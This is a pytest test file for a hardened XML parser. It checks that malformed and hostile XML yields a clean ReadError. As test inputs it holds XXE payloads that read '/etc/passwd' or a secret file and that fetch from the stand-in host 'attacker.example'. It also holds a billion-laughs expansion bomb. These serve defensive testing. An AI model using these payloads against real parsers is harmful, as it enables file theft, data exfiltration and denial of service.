"""Hostile and malformed XML: every one ends in a clean ReadError naming the file, the place
and the problem — never a traceback, an entity expansion, a file read or a fetch."""

from __future__ import annotations

from pathlib import Path

import pytest

from lerbridge.errors import ReadError
from lerbridge.xmlsafe import parse_xml


def _refused(data: bytes, name: str = "input.xml", **kw: int) -> ReadError:
    with pytest.raises(ReadError) as info:
        parse_xml(data, name, **kw)
    assert info.value.source == name
    return info.value


def test_xxe_file_entity_is_refused_and_nothing_is_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    data = (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE r [\n  <!ENTITY xxe SYSTEM "{secret.as_uri()}">\n]>\n'
        "<r>&xxe;</r>"
    ).encode()
    err = _refused(data, "xxe.xml")
    assert err.location == "line 2"
    assert "xxe" in err.message and "refused" in err.message
    assert "TOP-SECRET-CONTENT" not in str(err)


def test_xxe_http_entity_is_refused_without_a_fetch() -> None:
    data = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>\n'
        b"<r>&xxe;</r>"
    )
    err = _refused(data)
    assert "declares entities (xxe)" in err.message
    assert str(err).startswith("input.xml:line 2: ")


def test_utf16_xxe_is_refused() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    err = _refused(text.encode("utf-16"))
    assert "declares entities (x)" in err.message
    assert err.location == "line 2"


def test_parameter_entity_is_refused_without_a_fetch() -> None:
    data = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>'
    assert "declares entities" in _refused(data).message


def test_billion_laughs_is_refused() -> None:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    data = f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{"".join(entities)}]>\n<lolz>&lol9;</lolz>'
    err = _refused(data.encode(), "laughs.xml")
    assert "declares entities" in err.message
    assert err.location == "line 2"


def test_internal_subset_without_entities_is_refused() -> None:
    data = b'<!DOCTYPE r [<!ATTLIST r injected CDATA "yes">]><r/>'
    assert "internal subset" in _refused(data).message


def test_external_dtd_is_never_loaded() -> None:
    """A DOCTYPE that only names an external DTD parses; the DTD is not fetched (the socket
    guard would fail the test) and contributes nothing (no defaulted attributes)."""
    data = b'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://dtd.example/r.dtd">\n<r>hi</r>'
    tree = parse_xml(data, "ext.xml")
    assert tree.getroot().text == "hi"
    assert dict(tree.getroot().attrib) == {}
    assert tree.docinfo.system_url == "http://dtd.example/r.dtd"


def test_entity_only_an_external_dtd_could_define_is_refused() -> None:
    data = b'<!DOCTYPE r PUBLIC "-//X//Y" "http://dtd.example/r.dtd">\n<r>\n&nbsp;</r>'
    err = _refused(data)
    assert "&nbsp;" in err.message
    assert err.location == "line 3"


def test_undefined_entity_without_doctype() -> None:
    err = _refused(b"<r>\n  &foo;</r>")
    assert err.location is not None and err.location.startswith("line 2")
    assert "foo" in err.message


def test_malformed_xml_names_line_and_column() -> None:
    err = _refused(b'<?xml version="1.0"?>\n<a>\n  <b>\n</a>', "broken.xml")
    assert err.location is not None
    assert err.location.startswith("line 4 column")
    assert err.message.startswith("not well-formed XML: ")
    assert str(err).startswith("broken.xml:line 4 column")


@pytest.mark.parametrize("data", [b"", b"   \n\t", b"\xef\xbb\xbf", b"\xff\xfe"])
def test_empty_input(data: bytes) -> None:
    assert "empty" in _refused(data).message


def test_oversized_input() -> None:
    err = _refused(b"<r>" + b"x" * 2000 + b"</r>", max_bytes=1000)
    assert "over the 1000-byte limit" in err.message


def test_too_deep_is_a_read_error() -> None:
    err = _refused(b"<a>" * 100_000 + b"</a>" * 100_000)
    assert "depth" in err.message.lower()


def test_unknown_encoding_is_a_read_error() -> None:
    err = _refused(b'<?xml version="1.0" encoding="x-no-such-codec"?><r/>')
    assert err.message


def test_bom_and_utf16_are_accepted() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>\n<r>caf\u00e9 \U0001f600</r>'
    for data in (text.encode("utf-16"), text.encode("utf-16-be").replace(b"\x00", b"\x00", 1)):
        if not data.startswith((b"\xff\xfe", b"\xfe\xff")):
            data = b"\xfe\xff" + data
        assert parse_xml(data, "u16.xml").getroot().text == "caf\u00e9 \U0001f600"
    assert parse_xml(b"\xef\xbb\xbf<r>x</r>", "bom.xml").getroot().text == "x"


def test_comments_and_cdata_are_kept() -> None:
    tree = parse_xml(b"<r><!-- note --><![CDATA[<x>]]></r>", "c.xml")
    root = tree.getroot()
    assert root[0].text == " note "
    assert root[0].tail == "<x>"
